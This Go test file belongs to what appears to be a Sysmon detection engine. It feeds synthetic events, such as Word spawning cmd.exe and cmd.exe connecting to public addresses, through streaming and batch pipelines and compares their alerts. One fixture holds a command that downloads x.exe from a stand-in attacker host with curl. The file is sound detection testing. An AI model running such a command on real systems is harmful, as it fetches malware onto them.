package detect_test

import (
	"bufio"
	"context"
	"encoding/json"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
	"github.com/prometheus/client_golang/prometheus"

	"github.com/vigil-detect/vigil/advisory"
	"github.com/vigil-detect/vigil/alert"
	"github.com/vigil-detect/vigil/engine"
	"github.com/vigil-detect/vigil/event"
	"github.com/vigil-detect/vigil/hunt"
	"github.com/vigil-detect/vigil/internal/natstest"
	"github.com/vigil-detect/vigil/serve/detect"
	"github.com/vigil-detect/vigil/serve/partition"
)

var t0 = time.Date(2026, 3, 4, 9, 15, 0, 0, time.UTC)

const (
	cmdExe = `C:\Windows\System32\cmd.exe`
	word   = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	bat    = `cmd.exe /c "C:\Users\jdoe\AppData\Local\Temp\update.bat"`
)

// ev builds a Sysmon event of a host at t0+sec, as the advisory's scenario
// tests do.
func ev(host string, sec float64, m map[string]any) string {
	m["Channel"] = "Microsoft-Windows-Sysmon/Operational"
	m["Computer"] = host
	m["@timestamp"] = t0.Add(time.Duration(sec * float64(time.Second))).Format(time.RFC3339Nano)
	b, _ := json.Marshal(m)
	return string(b)
}

func start(host string, sec float64, guid, image, cmdline, parent string) string {
	return ev(host, sec, map[string]any{"EventID": 1, "ProcessGuid": guid, "ProcessId": 7212, "Image": image,
		"OriginalFileName": filepath.Base(strings.ReplaceAll(image, `\`, "/")), "CommandLine": cmdline,
		"ParentImage": parent, "ParentProcessGuid": "{P}", "ParentCommandLine": parent})
}

func conn(host string, sec float64, guid, image, ip string) string {
	return ev(host, sec, map[string]any{"EventID": 3, "ProcessGuid": guid, "ProcessId": 7212, "Image": image,
		"DestinationIp": ip, "DestinationPort": 443, "Protocol": "tcp", "Initiated": "true"})
}

// scenarios are the advisory's scenarios (advisory/scenario_test.go), one
// host each, plus the bundled example.
func scenarios(t testing.TB) []string {
	type sc func(h, g string) []string
	cases := []sc{
		func(h, g string) []string {
			return []string{start(h, 0, g, cmdExe, bat, `C:\Windows\explorer.exe`), conn(h, 3, g, cmdExe, "185.199.110.153")}
		},
		func(h, g string) []string {
			return []string{start(h, 0, g, cmdExe, `cmd /K whoami`, word), conn(h, 5, g, cmdExe, "8.8.8.8")}
		},
		func(h, g string) []string {
			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g, cmdExe, "8.8.8.8")}
		},
		func(h, g string) []string {
			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 15, g, cmdExe, "8.8.8.8")}
		},
		func(h, g string) []string {
			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 15.5, g, cmdExe, "8.8.8.8")}
		},
		func(h, g string) []string {
			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g+"x", cmdExe, "8.8.8.8")}
		},
		func(h, g string) []string {
			return []string{conn(h, 0, g, cmdExe, "8.8.8.8"), start(h, 1, g, cmdExe, bat, word)}
		},
		func(h, g string) []string {
			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g, cmdExe, "8.8.8.8"), conn(h, 2, g, cmdExe, "8.8.4.4"), conn(h, 3, g, cmdExe, "1.1.1.1")}
		},
		func(h, g string) []string {
			return []string{conn(h, 3, g, cmdExe, "1.1.1.1"), conn(h, 2, g, cmdExe, "8.8.4.4"), start(h, 0, g, cmdExe, bat, word)}
		},
		func(h, g string) []string {
			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g, cmdExe, "10.1.2.3")}
		},
		func(h, g string) []string {
			return []string{start(h, 0, g, cmdExe, bat, ""), conn(h, 1, g, cmdExe, "2606:4700:4700::1111")}
		},
		func(h, g string) []string {
			return []string{start(h, 0, g, cmdExe, `CMD.EXE /C curl -o x.exe HTTPS://evil.example/x.exe`, `C:\Windows\explorer.exe`), conn(h, 1, g, cmdExe, "93.184.216.34")}
		},
		// ancestry: Explorer, Word, cmd
		func(h, g string) []string {
			return []string{
				ev(h, 0, map[string]any{"EventID": 1, "ProcessGuid": g + "E", "Image": `C:\Windows\explorer.exe`, "CommandLine": "explorer.exe"}),
				ev(h, 1, map[string]any{"EventID": 1, "ProcessGuid": g + "W", "ParentProcessGuid": g + "E", "Image": word, "CommandLine": "winword.exe doc.docm"}),
				ev(h, 2, map[string]any{"EventID": 1, "ProcessGuid": g, "ParentProcessGuid": g + "W", "Image": cmdExe, "CommandLine": "cmd.exe /c a.bat", "ParentImage": word}),
				conn(h, 3, g, cmdExe, "8.8.8.8"),
			}
		},
	}
	var lines []string
	for i, c := range cases {
		h := "ws-" + string(rune('a'+i))
		// Scenarios 25 s apart: a partition's watermark moves on
		// between them.
		for _, l := range c(h, "{G-"+h+"}") {
			lines = append(lines, shift(t, l, time.Duration(i)*25*time.Second))
		}
	}
	f, err := os.Open("../../testdata/example/events.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	lr := bufio.NewScanner(f)
	for lr.Scan() {
		if l := strings.TrimSpace(lr.Text()); l != "" {
			lines = append(lines, l)
		}
	}
	return lines
}

// shift moves an event's @timestamp by d.
func shift(t testing.TB, line string, d time.Duration) string {
	var m map[string]any
	if err := json.Unmarshal([]byte(line), &m); err != nil {
		t.Fatal(err)
	}
	m["@timestamp"] = timeOf(t, line).Add(d).Format(time.RFC3339Nano)
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func timeOf(t testing.TB, line string) time.Time {
	var m struct {
		TS time.Time `json:"@timestamp"`
	}
	if err := json.Unmarshal([]byte(line), &m); err != nil {
		t.Fatal(err)
	}
	return m.TS
}

// shuffleWithin reorders lines randomly, no line moving more than d of
// event time behind a later one.
func shuffleWithin(t testing.TB, lines []string, d time.Duration, rng *rand.Rand) []string {
	type k struct {
		key  time.Time
		line string
	}
	ks := make([]k, len(lines))
	for i, l := range lines {
		ks[i] = k{timeOf(t, l).Add(time.Duration(rng.Int64N(int64(d)))), l}
	}
	slices.SortFunc(ks, func(a, b k) int { return a.key.Compare(b.key) })
	out := make([]string, len(ks))
	for i, x := range ks {
		out[i] = x.line
	}
	return out
}

// ticks are one event per host an hour after the last: they match nothing
// and move each partition's watermark past every window.
func ticks(t testing.TB, lines []string) []string {
	var last time.Time
	hosts := map[string]bool{}
	for _, l := range lines {
		if tt := timeOf(t, l); tt.After(last) {
			last = tt
		}
		hosts[hostOf(l)] = true
	}
	var out []string
	for h := range hosts {
		b, _ := json.Marshal(map[string]any{"@timestamp": last.Add(time.Hour).Format(time.RFC3339Nano), "Channel": "Application", "EventID": 9999, "Computer": h})
		out = append(out, string(b))
	}
	slices.Sort(out)
	return out
}

type collect struct{ alerts []*alert.Alert }

func (c *collect) Write(a *alert.Alert) error { c.alerts = append(c.alerts, a); return nil }
func (c *collect) Close() error               { return nil }

// huntAlerts runs vigil hunt's pipeline over lines and returns its alerts
// in normalized form.
func huntAlerts(t testing.TB, r *detect.Rules, lines []string) []string {
	var out collect
	if _, err := huntRun(r, writeLines(t, lines), &out, huntOptions(r)); err != nil {
		t.Fatal(err)
	}
	var norm []string
	for _, a := range out.alerts {
		b, err := json.Marshal(a)
		if err != nil {
			t.Fatal(err)
		}
		_, n := normalize(t, b)
		norm = append(norm, n)
	}
	return norm
}

// huntOptions are vigil hunt's options for rules.
func huntOptions(r *detect.Rules) hunt.Options {
	opts := hunt.Options{Workers: 2, Normalizer: r.Normalizer, Correlations: r.Correlations}
	if r.Advisory {
		en := advisory.NewEnricher()
		opts.Enrich = en.Enrich
		opts.Identity = en.Identity()
		opts.Context = func(r *engine.Rule) bool { return advisory.IsContextRule(r.Sigma) }
		opts.Observe = func(_ *engine.Rule, e *event.Event) { en.Record(advisory.ProcessOf(e)) }
	}
	return opts
}

func huntRun(r *detect.Rules, path string, out alert.Writer, opts hunt.Options) (hunt.Stats, error) {
	return hunt.Run(context.Background(), r.Engine, []string{path}, out, opts)
}

// serveAlerts returns the alerts stream's alerts, normalized, and checks
// that their ids are distinct.
// streamAlerts reads the alerts stream's alerts, normalized (serveAlerts).
func streamAlerts(t testing.TB, ctx context.Context, js jetstream.JetStream) []string {
	t.Helper()
	raw, err := readAlerts(ctx, js)
	if err != nil {
		t.Fatal(err)
	}
	got, _ := serveAlerts(t, raw)
	return got
}

// sameAsHunt requires serve's normalized alerts to be hunt's, in any order.
func sameAsHunt(t testing.TB, got, want []string, what string) {
	t.Helper()
	if g, w := sortedLines(got), sortedLines(want); g != w {
		t.Errorf("%s:\n%s\nhunt:\n%s", what, g, w)
	}
}

func serveAlerts(t testing.TB, raw [][]byte) (norm []string, ids map[string]bool) {
	ids = map[string]bool{}
	for _, b := range raw {
		id, n := normalize(t, b)
		if len(id) != 32 {
			t.Errorf("alert id %q", id)
		}
		if ids[id] {
			t.Errorf("alert id %s twice in the alerts stream", id)
		}
		ids[id] = true
		norm = append(norm, n)
	}
	return norm, ids
}

// TestScenariosShuffled streams the advisory's scenarios and the example,
// shuffled within the lateness, through a worker, and requires vigil
// hunt's alerts on the same events, each with a distinct id.
func TestScenariosShuffled(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	events := scenarios(t)
	tick := ticks(t, events)
	lines := append(slices.Clone(events), tick...)
	for _, rules := range []struct {
		name    string
		builtin bool
		paths   []string
	}{{"advisory", true, nil}, {"example rules and advisory", true, []string{"../../testdata/example/rules"}}} {
		t.Run(rules.name, func(t *testing.T) {
			r := loadRules(t, rules.builtin, rules.paths...)
			want := huntAlerts(t, r, lines)
			if len(want) < 8 {
				t.Fatalf("hunt gives %d alerts: the scenarios prove little", len(want))
			}
			srv := natstest.Start(t, t.TempDir())
			_, js := connect(t, srv.ClientURL())
			const n = 4
			if err := createStreams(ctx, js, n, 1); err != nil {
				t.Fatal(err)
			}
			reg := prometheus.NewRegistry()
			w, err := detect.New(ctx, js, r, detect.Options{Failover: 3 * time.Second, SnapshotInterval: 200 * time.Millisecond, Registerer: reg})
			if err != nil {
				t.Fatal(err)
			}
			wctx, stop := context.WithCancel(ctx)
			done := make(chan error, 1)
			go func() { done <- w.Run(wctx) }()
			defer func() {
				stop()
				if err := <-done; err != nil {
					t.Error(err)
				}
			}()
			rng := rand.New(rand.NewPCG(1, uint64(len(rules.paths))))
			body := append(shuffleWithin(t, events, 20*time.Second, rng), tick...)
			if _, err := publish(ctx, js, n, body); err != nil {
				t.Fatal(err)
			}
			waitCommitted(t, ctx, js, n, int64(len(body)), 30*time.Second)
			got := streamAlerts(t, ctx, js)
			t.Logf("%d events, %d alerts from hunt, %d from serve", len(body), len(want), len(got))
			sameAsHunt(t, got, want, "serve's alerts differ from hunt's")
			for name, want := range map[string]int{"vigil_events_evaluated_total": len(body), "vigil_alerts_total": len(got),
				"vigil_alert_latency_seconds": len(got), "vigil_events_late_total": 0} {
				if v := metricSum(t, reg, name); v != float64(want) {
					t.Errorf("%s %v, want %d", name, v, want)
				}
			}
		})
	}
}

// metricSum sums a metric's series in a registry.
func metricSum(t testing.TB, reg *prometheus.Registry, name string) float64 {
	mfs, err := reg.Gather()
	if err != nil {
		t.Fatal(err)
	}
	var sum float64
	for _, mf := range mfs {
		if mf.GetName() != name {
			continue
		}
		for _, m := range mf.GetMetric() {
			switch {
			case m.Counter != nil:
				sum += m.Counter.GetValue()
			case m.Gauge != nil:
				sum += m.Gauge.GetValue()
			case m.Histogram != nil:
				sum += float64(m.Histogram.GetSampleCount())
			}
		}
	}
	return sum
}

// runWorker starts a worker on a fresh server and returns its JetStream
// and registry; the worker stops with the test.
func runWorker(t *testing.T, ctx context.Context, r *detect.Rules, n int) (jetstream.JetStream, *detect.Worker, *prometheus.Registry) {
	return runWorkerWith(t, ctx, r, n, detect.Options{})
}

// runWorkerWith is runWorker with options (Failover, SnapshotInterval
// and Registerer are set).
func runWorkerWith(t *testing.T, ctx context.Context, r *detect.Rules, n int, o detect.Options) (jetstream.JetStream, *detect.Worker, *prometheus.Registry) {
	srv := natstest.Start(t, t.TempDir())
	_, js := connect(t, srv.ClientURL())
	if err := createStreams(ctx, js, n, 1); err != nil {
		t.Fatal(err)
	}
	reg := prometheus.NewRegistry()
	o.Failover, o.SnapshotInterval, o.Registerer = 3*time.Second, 200*time.Millisecond, reg
	w, err := detect.New(ctx, js, r, o)
	if err != nil {
		t.Fatal(err)
	}
	wctx, stop := context.WithCancel(ctx)
	done := make(chan error, 1)
	go func() { done <- w.Run(wctx) }()
	t.Cleanup(func() {
		stop()
		if err := <-done; err != nil {
			t.Error(err)
		}
	})
	return js, w, reg
}

func titles(t *testing.T, raw [][]byte) map[string]int {
	out := map[string]int{}
	for _, b := range raw {
		var a struct {
			Rule struct{ Title string } `json:"rule"`
		}
		if err := json.Unmarshal(b, &a); err != nil {
			t.Fatal(err)
		}
		out[a.Rule.Title]++
	}
	return out
}

// TestLateEvents sends a host's cmd.exe start and connection 100 s behind
// its newest event (the lateness is 30 s): both are counted late, and the
// single-event rules still alert on them.
func TestLateEvents(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	r := loadRules(t, true, "../../testdata/example/rules")
	js, _, reg := runWorker(t, ctx, r, 2)
	const h = "late-ws"
	g := "{LATE}"
	lines := []string{
		ev(h, 100, map[string]any{"EventID": 1, "ProcessGuid": "{N}", "Image": `C:\Windows\System32\svchost.exe`, "CommandLine": "svchost.exe"}),
		start(h, 0, g, cmdExe, bat, word),
		conn(h, 3, g, cmdExe, "8.8.8.8"),
	}
	if _, err := publish(ctx, js, 2, lines); err != nil {
		t.Fatal(err)
	}
	waitCommitted(t, ctx, js, 2, int64(len(lines)), 30*time.Second)
	_, late, err := committed(ctx, js, 2)
	if err != nil {
		t.Fatal(err)
	}
	if late != 2 || metricSum(t, reg, "vigil_events_late_total") != 2 {
		t.Errorf("late: %d saved, %v counted; want 2", late, metricSum(t, reg, "vigil_events_late_total"))
	}
	raw, err := readAlerts(ctx, js)
	if err != nil {
		t.Fatal(err)
	}
	got := titles(t, raw)
	for _, want := range []string{"Command Prompt Started by an Office Application", "Command Prompt Connecting to a Public Address"} {
		if got[want] != 1 {
			t.Errorf("%q: %d alerts, want 1 (all: %v)", want, got[want], got)
		}
	}
}

// TestReload switches the rules between a process start and its
// connection: the correlation state is carried over, and the alerts are
// hunt's.
func TestReload(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	r := loadRules(t, true)
	js, w, _ := runWorker(t, ctx, r, 2)
	const h = "reload-ws"
	g := "{RELOAD}"
	first := []string{start(h, 0, g, cmdExe, bat, word)}
	second := []string{conn(h, 2, g, cmdExe, "8.8.8.8")}
	second = append(second, ticks(t, append(first, second...))...)
	if _, err := publish(ctx, js, 2, first); err != nil {
		t.Fatal(err)
	}
	waitCommitted(t, ctx, js, 2, 1, 30*time.Second)
	w.SetRules(loadRules(t, true)) // compiled again: other pointers, same rules
	if _, err := publish(ctx, js, 2, second); err != nil {
		t.Fatal(err)
	}
	waitCommitted(t, ctx, js, 2, int64(1+len(second)), 30*time.Second)
	got := streamAlerts(t, ctx, js)
	want := huntAlerts(t, r, append(first, second...))
	if len(want) != 2 {
		t.Fatalf("hunt gives %d alerts, want the advisory's 2", len(want))
	}
	sameAsHunt(t, got, want, "after a reload")
}

// TestPinnedAnew unpins every partition mid-stream, as the server does
// when a worker stops pulling for --failover: the worker, pinned again,
// keeps its state (no other worker saved the partitions meanwhile) instead
// of loading it again, and the alerts are hunt's.
func TestPinnedAnew(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	r := loadRules(t, true)
	const n = 4
	js, _, reg := runWorker(t, ctx, r, n)
	events := scenarios(t)
	tick := ticks(t, events)
	half := len(events) / 2
	if _, err := publish(ctx, js, n, events[:half]); err != nil {
		t.Fatal(err)
	}
	waitCommitted(t, ctx, js, n, int64(half), 30*time.Second)
	loads := metricSum(t, reg, "vigil_partition_loads_total")
	s, err := js.Stream(ctx, detect.EventsStream)
	if err != nil {
		t.Fatal(err)
	}
	for p := range n {
		if err := s.UnpinConsumer(ctx, detect.ConsumerName(p), detect.Group); err != nil {
			t.Fatal(err)
		}
	}
	rest := append(slices.Clone(events[half:]), tick...)
	if _, err := publish(ctx, js, n, rest); err != nil {
		t.Fatal(err)
	}
	waitCommitted(t, ctx, js, n, int64(len(events)+len(tick)), 30*time.Second)
	if got := metricSum(t, reg, "vigil_partition_loads_total"); got != loads {
		t.Errorf("%v partition loads after the unpinning, want none (%v before)", got-loads, loads)
	}
	got := streamAlerts(t, ctx, js)
	want := huntAlerts(t, r, append(slices.Clone(events), tick...))
	sameAsHunt(t, got, want, "after the unpinning")
}

// TestFutureEvent sends a cmd.exe start dated 2099 before a host's real
// events: it is not correlated (counted), so it neither moves the
// watermark past the real events nor keeps their windows from closing,
// and the alerts are hunt's.
func TestFutureEvent(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	r := loadRules(t, true)
	js, _, reg := runWorker(t, ctx, r, 2)
	const h = "future-ws"
	g := "{FUTURE}"
	bogus := shift(t, start(h, 0, g+"x", cmdExe, bat, word), 73*365*24*time.Hour)
	events := []string{bogus, start(h, 0, g, cmdExe, bat, word), conn(h, 3, g, cmdExe, "8.8.8.8")}
	real := events[1:]
	lines := append(slices.Clone(events), ticks(t, real)...)
	if _, err := publish(ctx, js, 2, lines); err != nil {
		t.Fatal(err)
	}
	waitCommitted(t, ctx, js, 2, int64(len(lines)), 30*time.Second)
	if v := metricSum(t, reg, "vigil_events_future_total"); v != 1 {
		t.Errorf("vigil_events_future_total %v, want 1", v)
	}
	got := streamAlerts(t, ctx, js)
	want := huntAlerts(t, r, lines)
	if len(want) != 2 {
		t.Fatalf("hunt gives %d alerts, want the advisory's 2", len(want))
	}
	sameAsHunt(t, got, want, "with an event dated 2099")
}

// TestIdleAdvance sends a host's cmd.exe connection, then nothing: a
// correlation reading it holds it behind the watermark. With idle ticks
// (the default) the partition's event time moves on after --idle-advance
// of silence and the correlation alert fires; without them it does not,
// nor with ticks that are no time or dated past any event's possible time.
// Ticks are not events.
func TestIdleAdvance(t *testing.T) {
	const corr = "Command Prompt Connection Seen"
	for _, c := range []struct {
		name  string
		idle  time.Duration
		fires bool
	}{{"ticks", 0, true}, {"never", -1, false}} {
		t.Run(c.name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
			defer cancel()
			r := loadRules(t, false, "testdata/idle")
			js, _, reg := runWorkerWith(t, ctx, r, 2, detect.Options{MaxLateness: time.Second, IdleAdvance: c.idle})
			lines := []string{conn("idle-ws", 3, "{IDLE}", cmdExe, "8.8.8.8")}
			if _, err := publish(ctx, js, 2, lines); err != nil {
				t.Fatal(err)
			}
			waitCommitted(t, ctx, js, 2, int64(len(lines)), 30*time.Second)
			if !c.fires {
				// Ticks that are no time, or dated past any event's
				// possible time, are ignored: they would close the window.
				p := partition.Of("idle-ws", 2)
				for _, v := range []string{"soon", strconv.FormatInt(time.Now().Add(48*time.Hour).UnixNano(), 10)} {
					m := nats.NewMsg(partition.TickSubject(p))
					m.Header.Set(detect.HeaderTick, v)
					if _, err := js.PublishMsg(ctx, m); err != nil {
						t.Fatal(err)
					}
				}
			}
			// Ticks come after 1 s of silence, each moving event time on
			// by about the time idle: 6 s is ample for one.
			deadline := time.Now().Add(6 * time.Second)
			var got map[string]int
			for time.Now().Before(deadline) {
				raw, err := readAlerts(ctx, js)
				if err != nil {
					t.Fatal(err)
				}
				if got = titles(t, raw); got[corr] > 0 {
					break
				}
				time.Sleep(200 * time.Millisecond)
			}
			if fired := got[corr] == 1; fired != c.fires {
				t.Errorf("correlation alerts %d, want fired=%v (all: %v)", got[corr], c.fires, got)
			}
			if ev := metricSum(t, reg, "vigil_events_evaluated_total"); ev != float64(len(lines)) {
				t.Errorf("%v events evaluated, want %d (ticks are not events)", ev, len(lines))
			}
		})
	}
}
